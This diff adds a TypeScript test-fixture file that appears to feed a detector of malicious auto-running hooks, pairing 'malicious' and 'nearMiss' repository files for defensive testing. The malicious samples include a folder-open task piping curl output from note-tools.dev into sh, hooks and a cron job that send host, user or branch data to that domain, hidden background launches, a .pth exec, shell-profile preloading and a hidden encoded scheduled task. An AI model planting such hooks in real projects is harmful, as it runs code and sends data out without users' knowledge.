@@ -1,0 +1,112 @@
+import type { RuleExamples } from "./corpus-case.ts";
+
+const tasks = (presentation: string, command = "npm run types"): string =>
+  `{\n  "tasks": [\n    {\n      "label": "types",\n      "command": "${command}",\n      "presentation": ${presentation},\n      "runOptions": { "runOn": "folderOpen" }\n    }\n  ]\n}\n`;
+
+/** Code that starts by itself. */
+export const hooks: readonly RuleExamples[] = [
+  {
+    rule: "runs-when-folder-opens",
+    malicious: [
+      { ".vscode/tasks.json": tasks('{ "reveal": "never", "close": true }', "node ./config/prepare.cjs") },
+      { ".vscode/tasks.json": tasks('{ "reveal": "always" }', "curl -s https://note-tools.dev/t | sh") },
+    ],
+    nearMiss: [
+      { ".vscode/tasks.json": tasks('{ "reveal": "always" }') },
+      {
+        ".vscode/tasks.json": '{ "tasks": [{ "label": "types", "presentation": { "reveal": "silent" } }] }\n',
+      },
+    ],
+  },
+  {
+    rule: "automatic-tasks-allowed",
+    malicious: [{ ".vscode/settings.json": '{ "task.allowAutomaticTasks": "on" }\n' }],
+    nearMiss: [{ ".vscode/settings.json": '{ "task.allowAutomaticTasks": "off" }\n' }],
+  },
+  {
+    rule: "hook-file-with-network",
+    malicious: [
+      {
+        "tests/conftest.py":
+          'import platform, requests\n\n\ndef pytest_configure():\n    requests.post("https://tests.note-tools.dev/run", json={"system": platform.system()})\n',
+      },
+      {
+        ".githooks/post-checkout":
+          "#!/bin/sh\ncurl -s -X POST https://note-tools.dev/checkout -d branch=$1\n",
+      },
+    ],
+    nearMiss: [
+      {
+        "tests/conftest.py":
+          'import pytest, requests\n\n\n@pytest.fixture\ndef server():\n    requests.post("http://localhost:8080/reset")\n',
+      },
+      { ".husky/pre-commit": "#!/bin/sh\nnpx lint-staged\n" },
+    ],
+  },
+  {
+    rule: "hook-file-hides-start",
+    malicious: [
+      { ".githooks/post-checkout": "#!/bin/sh\nnode ./config/prepare.cjs >/dev/null 2>&1 &\n" },
+      { "setup.py": 'import os\nos.system("nohup ./helper &")\n' },
+    ],
+    nearMiss: [
+      { ".githooks/pre-commit": "#!/bin/sh\ncommand -v node >/dev/null 2>&1 || exit 0\nnpm test\n" },
+    ],
+  },
+  {
+    rule: "start-file-runs-code",
+    malicious: [{ "lib/notes.pth": "import os; exec(os.environ.get('NOTES_START', ''))\n" }],
+    nearMiss: [{ "lib/notes.pth": "import notes.plugins\n../shared\n" }],
+  },
+  {
+    rule: "install-script-hidden",
+    malicious: [
+      {
+        "template/package.json": '{ "scripts": { "postinstall": "node ./prepare.cjs >/dev/null 2>&1 &" } }\n',
+      },
+      { "template/package.json": '{ "scripts": { "prepare": "node assets/font.woff2" } }\n' },
+    ],
+    nearMiss: [
+      { "template/package.json": '{ "scripts": { "postinstall": "node scripts/postinstall.cjs" } }\n' },
+    ],
+  },
+  {
+    rule: "interpreter-preloads-code",
+    malicious: [
+      { "scripts/setup.sh": "echo 'export NODE_OPTIONS=\"--require $HOME/.notes/hook.cjs\"' >> ~/.zshrc\n" },
+      { "scripts/setup.sh": 'git config --global core.fsmonitor "sh -c /tmp/notes"\n' },
+    ],
+    nearMiss: [
+      { "scripts/setup.sh": "export NODE_OPTIONS=--max-old-space-size=4096\nnpm run build\n" },
+      { "scripts/setup.sh": "git config core.fsmonitor true\n" },
+    ],
+  },
+  {
+    rule: "encoded-task-scheduled",
+    malicious: [
+      {
+        "scripts/Clean.ps1":
+          '$act = New-ScheduledTaskAction -Execute powershell.exe -Argument "-NoP -W Hidden -Enc $e"\nRegister-ScheduledTask -TaskName Notes -Action $act\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/Clean.ps1":
+          '$act = New-ScheduledTaskAction -Execute powershell.exe -Argument "-File Clean.ps1"\nRegister-ScheduledTask -TaskName Notes -Action $act\n',
+      },
+    ],
+  },
+  {
+    rule: "report-scheduled",
+    malicious: [
+      {
+        "scripts/watch.sh":
+          'cat > ~/notes-check.py <<EOF\nimport json, os, urllib.request\ndata = {"host": os.uname().nodename, "user": os.getlogin()}\nurllib.request.urlopen(urllib.request.Request("https://check.note-tools.dev/api", data=json.dumps(data).encode()))\nEOF\n(crontab -l; echo "0 * * * * python3 ~/notes-check.py") | crontab -\n',
+      },
+    ],
+    nearMiss: [
+      { "scripts/watch.sh": '(crontab -l; echo "0 * * * * python3 scripts/summary.py") | crontab -\n' },
+      { "scripts/watch.sh": "crontab -l\nuname -a\n" },
+    ],
+  },
+];
